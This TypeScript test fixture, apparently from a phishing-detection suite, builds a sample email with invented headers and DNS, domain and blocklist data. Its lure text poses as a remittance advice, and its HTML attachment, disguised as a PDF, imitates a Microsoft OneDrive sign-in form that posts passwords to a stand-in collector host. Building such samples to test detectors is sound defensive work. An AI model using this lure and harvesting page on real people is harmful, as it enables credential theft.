import { arrival } from '../arrival.ts';
import { encodeText } from '../charsets.ts';
import { filePart, multipart, textPart } from '../compose.ts';
import type { Sample } from '../sample.ts';
import { absent, inventedNetwork, sendingHost } from '../world.ts';

const COLLECTOR = 'https://forms.lantern-collect.example/in.php';

const COVER = `<p>Good day,</p>
<p>Please find attached the remittance advice for invoice 0619-B. The document is protected by Microsoft OneDrive, login with your email to view it.</p>
<p>Kindly confirm the receipt today.</p>
<p>Accounts Payable<br><i>This message was scanned and is 100% safe.</i></p>
`;

const ATTACHMENT = `<!DOCTYPE html>
<html><head><title>Microsoft OneDrive - Sign in</title></head>
<body>
<h1>Microsoft</h1>
<p>Your session has expired. Sign in to open <b>Remittance_Advice_0619.pdf</b></p>
<form method="post" action="${COLLECTOR}">
<input type="email" name="u" value="sam@example.net" readonly>
<input type="password" name="p" placeholder="Email password" required>
<button type="submit">View document</button>
</form>
<script>
document.title = atob('U2lnbiBpbiB0byB5b3VyIGFjY291bnQ=');
</script>
</body></html>
`;

/** The mail itself has no link: the login page comes along as a file. */
export const htmlAttachmentEn: Sample = {
  name: 'html-attachment-en',
  what: 'Remittance advice as an HTML attachment with a Microsoft login form; the mail itself has no link',
  mustFind: 'active attachment with a password field and a script, whose form goes to a foreign host, and the reader\'s address filled in; HTML named like a document; claimed brand against address',
  label: 'phishing',
  lineEnds: 'crlf',
  trace: arrival({
    returnPath: 'accounts@pellworth-joinery.example', helo: 'smtp3.pellworth-joinery.example', reverseName: 'smtp3.pellworth-joinery.example',
    address: '198.51.100.203', recipient: 'sam@example.net', queueId: '4bM2x8V1Sz7fQ', date: 'Thu, 19 Jun 2025 13:55:47 +0000 (UTC)',
  }),
  fields: [
    ['From', '"Accounts via Microsoft OneDrive" <accounts@pellworth-joinery.example>'],
    ['To', 'sam@example.net'],
    ['Subject', 'Remittance Advice 0619-B for example.net'],
    ['Date', 'Thu, 19 Jun 2025 13:55:41 +0000'],
    ['Message-ID', '<55f0d1ce-0619@pellworth-joinery.example>'],
    ['X-Priority', '1'],
  ],
  content: multipart('mixed', 'b1_7c19f0a2', [
    textPart(COVER, { charset: 'us-ascii', encoding: 'quoted-printable', subtype: 'html' }),
    filePart(encodeText(ATTACHMENT, 'utf-8'), 'text/html; name="Remittance_Advice_0619.pdf.html"', [
      ['Content-Disposition', 'attachment;\n filename="Remittance_Advice_0619.pdf.html"'],
    ]),
  ]),
  world: {
    comment: 'Invented. SPF gives no answer for the sender, and nobody has listed the host that collects the passwords.',
    takenAt: '2025-06-19T15:00:00Z',
    dns: {
      ...sendingHost({ domain: 'pellworth-joinery.example', host: 'smtp3.pellworth-joinery.example', address: '198.51.100.203' }),
      'forms.lantern-collect.example': { A: ['203.0.113.144'] },
    },
    rdap: {
      'lantern-collect.example': {
        outcome: 'found', registeredAt: '2025-06-11T08:40:00Z', expiresAt: '2026-06-11T08:40:00Z', registrar: 'Invented Names Ltd.', status: ['client transfer prohibited'],
      },
    },
    geo: { '198.51.100.203': inventedNetwork('GB', 'Invented Hosting Ltd'), '203.0.113.144': absent },
    blocklists: { [COLLECTOR]: [{ source: 'Google Safe Browsing', outcome: 'absent' }] },
    capture: {},
  },
};
